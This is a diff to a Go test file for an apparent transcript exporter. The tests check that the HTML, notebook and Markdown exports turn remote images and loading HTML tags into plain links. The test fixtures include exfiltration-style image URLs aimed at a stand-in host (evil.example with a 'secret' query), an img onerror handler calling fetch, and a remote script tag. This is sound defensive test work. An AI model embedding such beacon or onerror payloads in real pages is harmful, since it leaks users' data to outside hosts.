@@ -9,6 +9,9 @@ import (
 	"reflect"
 	"strings"
 	"testing"
+
+	"github.com/yuin/goldmark/ast"
+	"github.com/yuin/goldmark/text"
 )
 
 func TestReadWriteRoundTrip(t *testing.T) {
@@ -185,10 +188,11 @@ func TestExportEmbedsOnlyWorkspaceImages(t *testing.T) {
 			t.Fatal(err)
 		}
 	}
-	out := "![image](images/x.svg)\n![image](dirlink/p.png)\n![image](images/out.png)\n![image](../outside/o.png)\n![image](" + filepath.Join(base, "outside", "o.png") + ")\n![image](images/ok.svg)\n"
+	out := "![image](images/x.svg)\n![image](dirlink/p.png)\n![image](images/out.png)\n![image](../outside/o.png)\n![image](" + filepath.Join(base, "outside", "o.png") + ")\n![image](images/ok.svg)\n![image](//evil.example/o)\n"
 	tr := &Transcript{Dir: ws, Entries: []Entry{
 		{Kind: KindAnswer, Text: "See ![leak](http://evil.example/x?secret=s) and ![p](//evil.example/y)"},
 		{Kind: KindThought, Text: "![t](https://evil.example/t)"},
+		{Kind: KindAnswer, Text: "Inline <img src=\"http://evil.example/h?secret=s\" alt=\"h\"> and\n\n<div><img srcset=\"//evil.example/b 2x\"></div>"},
 		{Kind: KindCode, Code: "show()", Output: out},
 	}}
 	page, err := tr.HTML(Options{Thoughts: true})
@@ -208,10 +212,106 @@ func TestExportEmbedsOnlyWorkspaceImages(t *testing.T) {
 			t.Errorf("the %s export lacks the workspace's own image", name)
 		}
 	}
+	var cells []string
+	for _, c := range tr.Notebook(Options{Thoughts: true}).Cells {
+		if c.CellType == Markdown {
+			cells = append(cells, c.Source)
+		}
+	}
+	for name, doc := range map[string]string{"ipynb": strings.Join(cells, "\n\n"), "markdown": tr.Markdown(Options{Thoughts: true})} {
+		if what := loadsRemote(doc); what != "" {
+			t.Errorf("the %s export loads %s:\n%s", name, what, doc)
+		}
+		for _, link := range []string{"[image: leak](http://evil.example/x?secret=s)", "[image: p](//evil.example/y)", "[image: t](https://evil.example/t)", `<a href="http://evil.example/h?secret=s">image: h</a>`, `<a href="//evil.example/b">image: </a>`} {
+			if !strings.Contains(doc, link) {
+				t.Errorf("the %s export lacks the link %s:\n%s", name, link, doc)
+			}
+		}
+	}
 	if strings.Contains(page, `<img alt="leak"`) || strings.Contains(page, `src="http`) || strings.Contains(page, `src="//`) {
 		t.Errorf("the HTML export loads a remote image:\n%s", page)
 	}
 	if !strings.Contains(page, `<a href="http://evil.example/x?secret=s">image: leak</a>`) || !strings.Contains(page, "default-src 'none'") {
 		t.Errorf("the remote image is not a link, or the page has no policy:\n%s", page)
 	}
+}
+
+// loadsRemote names what in the Markdown doc would load from elsewhere
+// when shown: an image with an address that is not a workspace path or a
+// data: URL, or raw HTML with a tag that loads; "" if nothing.
+func loadsRemote(doc string) string {
+	src := []byte(doc)
+	what := ""
+	_ = ast.Walk(plainMD.Parser().Parse(text.NewReader(src)), func(n ast.Node, entering bool) (ast.WalkStatus, error) {
+		if !entering {
+			return ast.WalkContinue, nil
+		}
+		var raw []byte
+		switch n := n.(type) {
+		case *ast.Image:
+			if d := string(n.Destination); remoteAddr(d) {
+				what = "the image " + d
+			}
+		case *ast.RawHTML:
+			raw = n.Segments.Value(src)
+		case *ast.HTMLBlock:
+			raw = n.Lines().Value(src)
+		}
+		if raw != nil {
+			if _, changed := linkHTML(raw); changed {
+				what = "the HTML " + string(raw)
+			}
+		}
+		if what != "" {
+			return ast.WalkStop, nil
+		}
+		return ast.WalkContinue, nil
+	})
+	return what
+}
+
+// Every image and loading tag becomes a link or text; data: images and
+// harmless HTML stay as written.
+func TestLinkRemote(t *testing.T) {
+	for _, tc := range []struct{ in, want string }{
+		{"![a](http://e.x/i.png)", "[image: a](http://e.x/i.png)"},
+		{"![](//e.x/i)", "[image: ](//e.x/i)"},
+		{"![a](<http://e.x/a b> \"t\")", "[image: a](<http://e.x/a b> \"t\")"},
+		{"[![a](http://e.x/i)](http://e.x/page)", "[[image: a](http://e.x/i)](http://e.x/page)"},
+		{"![a][r]\n\n[r]: http://e.x/i", "[image: a][r]\n\n[r]: http://e.x/i"},
+		{"![a ![b](http://e.x/b)](http://e.x/a)", "[image: a [image: b](http://e.x/b)](http://e.x/a)"},
+		{"> ![q](http://e.x/q)", "> [image: q](http://e.x/q)"},
+		{"![d](data:image/png;base64,AA==)", "![d](data:image/png;base64,AA==)"},
+		{"`![c](http://e.x/c)`", "`![c](http://e.x/c)`"},
+		{"a <img src='http://e.x/i' alt='x<y'> b", `a <a href="http://e.x/i">image: x&lt;y</a> b`},
+		{"<img src=\"data:image/png;base64,AA==\">", "<img src=\"data:image/png;base64,AA==\">"},
+		{"<img src=\"data:image/png;base64,AA==\" onerror=\"fetch('//e.x')\">", "&lt;img src=&#34;data:image/png;base64,AA==&#34; onerror=&#34;fetch(&#39;//e.x&#39;)&#34;&gt;"},
+		{"<div style=\"background:url(http://e.x/s)\">x</div>", "&lt;div style=&#34;background:url(http://e.x/s)&#34;&gt;x</div>"},
+		{"<details><summary>Hi</summary>\n\n<b>x</b>\n\n</details>", "<details><summary>Hi</summary>\n\n<b>x</b>\n\n</details>"},
+		{"<a href=\"http://e.x/\">ok</a>", "<a href=\"http://e.x/\">ok</a>"},
+		{"<script src=\"http://e.x/s.js\"></script>", "&lt;script src=&#34;http://e.x/s.js&#34;&gt;&lt;/script&gt;"},
+		{"<svg><image href=\"http://e.x/i\"/></svg>", "<svg>&lt;image href=&#34;http://e.x/i&#34;/&gt;</svg>"},
+		{"<img\nsrc=\"http://e.x/ml\">", `<a href="http://e.x/ml">image: </a>`},
+	} {
+		got := linkRemote(tc.in)
+		if got != tc.want {
+			t.Errorf("linkRemote(%q)\n got %q\nwant %q", tc.in, got, tc.want)
+		}
+		if what := loadsRemote(got); what != "" {
+			t.Errorf("linkRemote(%q) = %q still loads %s", tc.in, got, what)
+		}
+	}
+}
+
+// Whatever the Markdown, what linkRemote returns loads nothing.
+func FuzzLinkRemote(f *testing.F) {
+	for _, s := range []string{"![a](http://e.x/i)", "<img src=x>", "[![a](//e)](u)", "<div>\n<img\nsrc=//e>\n</div>", "> <img src=//e", "![a][r]\n\n[r]: //e"} {
+		f.Add(s)
+	}
+	f.Fuzz(func(t *testing.T, s string) {
+		got := linkRemote(s)
+		if what := loadsRemote(got); what != "" {
+			t.Errorf("linkRemote(%q) = %q loads %s", s, got, what)
+		}
+	})
 }
